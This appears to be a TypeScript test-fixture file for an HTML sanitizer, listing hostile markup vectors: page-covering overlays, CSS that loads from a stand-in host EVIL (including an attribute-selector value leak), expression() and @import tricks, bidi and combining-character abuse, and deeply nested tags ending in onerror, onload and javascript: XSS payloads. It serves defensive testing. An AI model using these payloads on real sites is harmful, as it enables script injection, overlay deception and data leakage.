import { type Vector, vectorsOf } from './vectors.ts';

const tall = '<br>x'.repeat(60);
/** Attacks that cover the rest of the page, or load styles from elsewhere. */
const layout = [
  '<a href="//EVIL/" style="position:fixed;inset:0;z-index:99999">x</a>',
  '<p style="position:absolute;top:-500px;left:0;width:100%;height:2000px;z-index:9">x</p>',
  '<p style="margin:-900px;padding:900px;transform:scale(99)">x</p>',
  '<p class="toast" style="display:block">x</p>',
  '<p style="x:expression(HIT);-moz-binding:url(//EVIL/#x);behavior:url(//EVIL/)">x</p>',
  '<p style="background:url(//EVIL/);list-style:url(//EVIL/);content:url(//EVIL/);cursor:url(//EVIL/),auto">x</p>',
  '<p style="background:\\75rl(//EVIL/);width:expr/**/ession(HIT)">x</p>',
  '<style>body{display:none}*{background:url(//EVIL/)}</style>',
  '<style>@import "//EVIL/";@import url(//EVIL/b);</style>',
  '<style>input[value^=a]{background:url(//EVIL/)}@font-face{font-family:q;src:url(//EVIL/)}p{font-family:q}</style>',
  '<style>@charset "x";</style><link rel=stylesheet href=//EVIL/><xss style="x:expression(HIT)">',
  '<table align="left" height="3000"><tr><td><a href="//EVIL/">x</a></td></tr></table>',
  `<table align="right"><tr><td><a href="//EVIL/">${tall}</a></td></tr></table>`,
  '<a href="//EVIL/"><img align="left" src="/icon.svg" width="300" height="3000"></a>',
  '<img align="right" src="/icon.svg" width="99999" height="99999">',
  '<hr width="99999" align="left" color="red">',
  '<table width="99999" height="99999"><tr><td width="99999" height="9999" colspan="1000" rowspan="65534">x</td></tr></table>',
  '<table><colgroup span="1000" width="999"><col span="1000" width="999"></colgroup><tr><td>x</td></tr></table>',
  `<pre>${'x'.repeat(3_000)}</pre>`,
  `<p>${'x\u0335\u0336\u0337\u0338\u20d2\u0489'.repeat(5)}${'\u0301'.repeat(300)}</p>`,
  '<p>\u202e\u2066x</p><bdo dir=rtl>x</bdo>',
  '<marquee width="9999" height="9999" behavior="alternate">x</marquee>',
  '<dialog open>x</dialog><div popover="manual">x</div>',
  '<center><font size="999" color="transparent" face="x">x</font></center>',
];

const deep = (open: string, count: number) => open.repeat(count);
/** Markup that is deeper or longer than a parser or filter may handle. */
const nesting = [
  `${deep('<div>', 700)}<img src=x onerror=HIT>`,
  `${deep('<b>', 700)}<svg onload=HIT>`,
  `${deep('<ul><li>', 300)}x`,
  `${deep('<blockquote>', 300)}<a href=javascript:HIT>x</a>`,
  `${deep('<table><tr><td>', 200)}<script>HIT</script>`,
  `${deep('<form>', 50)}<button onclick=HIT>x</button>`,
  `${deep('<svg><foreignObject>', 200)}<img src=x onerror=HIT>`,
  `${deep('<math><mtext><table>', 120)}<style><img src=x onerror=HIT>`,
  `${deep('<template>', 200)}<img src=x onerror=HIT>`,
  `<p title="${'>'.repeat(20_000)}" onclick=HIT>x</p>`,
];

export const layoutVectors: readonly Vector[] = [
  ...vectorsOf('style and layout', layout),
  ...vectorsOf('nesting', nesting),
];
